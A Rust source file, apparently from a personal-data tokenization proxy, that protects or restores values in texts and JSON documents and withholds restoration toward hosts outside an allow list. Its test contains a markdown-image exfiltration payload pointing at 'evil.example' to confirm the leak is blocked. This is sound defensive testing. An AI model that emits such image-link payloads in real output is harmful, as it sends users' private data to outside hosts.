//! [`Filter`]: protects or restores the values of one document.

use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use textveil_documents::{Document, Edit, Format, Record, Value, analyse, edited};
use textveil_engine::{Keyring, Piece, Work, read_tokens};
use textveil_restore::{End, TextReader, Transcripts, Verdict};

use crate::{config::Config, refusal::Refusal};

/// The operation on a body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Task {
    /// Personal data is replaced.
    Protect,
    /// Restores tokens.
    Restore,
}

/// Counts the tokens that stayed because a foreign host would have read their values.
#[derive(Clone, Debug, Default)]
pub(crate) struct Withheld(Arc<AtomicUsize>);

impl Withheld {
    fn add_one(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }

    pub(crate) fn count(&self) -> usize {
        self.0.load(Ordering::Relaxed)
    }
}

/// Does a task with texts and documents.
pub(crate) struct Filter {
    config: Arc<Config>,
    task: Task,
    withheld: Withheld,
}

impl Filter {
    pub(crate) fn new(config: &Arc<Config>, task: Task) -> Self {
        Self { config: Arc::clone(config), task, withheld: Withheld::default() }
    }

    /// Returns the count of withheld tokens, which goes on while the filter is used.
    pub(crate) fn withheld(&self) -> Withheld {
        self.withheld.clone()
    }

    pub(crate) fn task(&self) -> Task {
        self.task
    }

    /// Filters a text without a structure.
    pub(crate) fn text(&self, text: &str) -> Result<String, Refusal> {
        if self.task == Task::Restore {
            return Ok(edited(text, &self.restored(text, TextReader::default())));
        }
        let value = Value::plain(None, text.to_owned());
        Ok(self.values(&[value])?.pop().flatten().unwrap_or_else(|| text.to_owned()))
    }

    /// Filters a document of which only values change.
    pub(crate) fn document(&self, document: &str, format: Format) -> Result<String, Refusal> {
        let mut reader = Document::open_text(format).ok_or(NOT_TEXT)?;
        let mut records = reader.push(document).map_err(malformed)?;
        records.extend(reader.finish().map_err(malformed)?);
        records.iter().map(|record| self.record(record)).collect()
    }

    /// Filters a record of a document.
    pub(crate) fn record(&self, record: &Record) -> Result<String, Refusal> {
        Ok(record.rewritten(&self.edits(&record.values)?))
    }

    /// Returns the new text of each value; `None` without a change.
    pub(crate) fn values(&self, values: &[Value]) -> Result<Vec<Option<String>>, Refusal> {
        let edits = self.edits(values)?;
        let changed = values.iter().zip(&edits);
        Ok(changed.map(|(value, edits)| (!edits.is_empty()).then(|| edited(&value.text, edits))).collect())
    }

    fn edits(&self, values: &[Value]) -> Result<Vec<Vec<Edit>>, Refusal> {
        match self.task {
            Task::Protect => self.protected(values),
            Task::Restore => {
                let restored = |value: &Value| self.restored(&value.text, TextReader::default().as_string());
                Ok(values.iter().map(restored).collect())
            }
        }
    }

    fn protected(&self, values: &[Value]) -> Result<Vec<Vec<Edit>>, Refusal> {
        let Config { finder, protection, keys, .. } = &*self.config;
        let mut refusal = None;
        let analysis = analyse(values, |passage| {
            let (text, cells) = (passage.text(), passage.cells());
            let protection = finder
                .protect_cells(text, cells, protection, keys.as_ref(), &Work::default())
                .map_err(|error| {
                refusal = Some(Refusal::from(error));
                Refusal::Blocked
            })?;
            Ok((protection.entities, protection.countries))
        });
        match analysis {
            Ok(analysis) => Ok(analysis.edits(str::to_owned)),
            Err(_) => Err(refusal.unwrap_or(Refusal::Malformed("the body cannot be inspected"))),
        }
    }

    /// Returns an edit for each token of a text that is restored. A token stays where a foreign host would read its value.
    fn restored(&self, text: &str, mut reader: TextReader) -> Vec<Edit> {
        let keys: &Keyring = match &self.config.keys {
            Some(keys) if text.contains("tok_") => keys,
            _ => return Vec::new(),
        };
        let mut transcripts = Transcripts::new(self.config.restore_hosts.clone());
        let (mut tokens, mut done) = (Vec::new(), 0);
        read_tokens(text, keys, |piece| {
            let (Piece::Text(written) | Piece::Token { written, .. }) = &piece;
            let place = done..done + written.len();
            done = place.end;
            match piece {
                Piece::Token { original: Some(original), .. } => {
                    reader.value(&mut transcripts, &original);
                    tokens.push((place, original));
                }
                Piece::Text(written) | Piece::Token { original: None, written } => {
                    reader.text(&mut transcripts, written);
                }
            }
        });
        reader.end(&transcripts, End::Whole);
        let restored = tokens.into_iter().filter_map(|(place, original)| match reader.verdict() {
            Some(Verdict::Restore(encoding)) => {
                Some(Edit { place, text: encoding.encode(&original).into_owned() })
            }
            Some(Verdict::Withhold) | None => {
                self.withheld.add_one();
                None
            }
        });
        restored.collect()
    }
}

/// Why a document of a format that is no text is rejected.
pub(crate) const NOT_TEXT: Refusal = Refusal::Unsupported("documents of this type are not read");

/// Rejects a body that is not valid for its content type. A refusal has a fixed text, so the reader's message is dropped.
pub(crate) fn malformed(_: anyhow::Error) -> Refusal {
    Refusal::Malformed("the body is not valid for its content type")
}

#[cfg(test)]
mod tests {
    use futures_util::FutureExt;
    use textveil_engine::{DetectOptions, Mode, ProtectOptions, protect};

    use super::*;

    /// A token is restored where no host reads its value, in texts and in values of documents.
    #[test]
    fn tokens_are_restored_by_their_destination() {
        let config = Config::read(async |name| {
            Ok(match name {
                "textveil_options" => Some("{}".to_owned()),
                "textveil_secrets" => Some("0:000102030405060708090a0b0c0d0e0f".to_owned()),
                "textveil_responses" => Some("restore".to_owned()),
                "textveil_restore_hosts" => Some("crm.example.com, *.example.org".to_owned()),
                _ => None,
            })
        });
        let config = config.now_or_never().unwrap().ok().unwrap();
        let tokenize = ProtectOptions { mode: Mode::Tokenize, ..ProtectOptions::default() };
        let token = protect("jan@example.cz", &DetectOptions::default(), &tokenize, config.keys.as_ref());
        let token = token.unwrap().text;
        let filter = Filter::new(&config, Task::Restore);
        for (text, want) in [
            ("to @T.", "to jan@example.cz."),
            ("https://crm.example.com/?q=@T", "https://crm.example.com/?q=jan@example.cz"),
            ("https://a.example.org/@T", "https://a.example.org/jan@example.cz"),
            ("![x](https://evil.example/?q=@T) @T", "![x](https://evil.example/?q=@T) jan@example.cz"),
            ("tok_ no token", "tok_ no token"),
        ] {
            let (text, want) = (text.replace("@T", &token), want.replace("@T", &token));
            assert_eq!(filter.text(&text).ok(), Some(want.clone()));
            let document = filter.document(&serde_json::json!([text]).to_string(), Format::Json).ok();
            assert_eq!(document, Some(serde_json::json!([want]).to_string()));
        }
        assert_eq!(
            filter.withheld().count(),
            2,
            "the token of evil.example, in the text and in the document"
        );
        let url = serde_json::json!([format!("//evil.example/ {token}")]).to_string();
        assert_eq!(filter.document(&url, Format::Json).ok(), Some(url));
    }
}
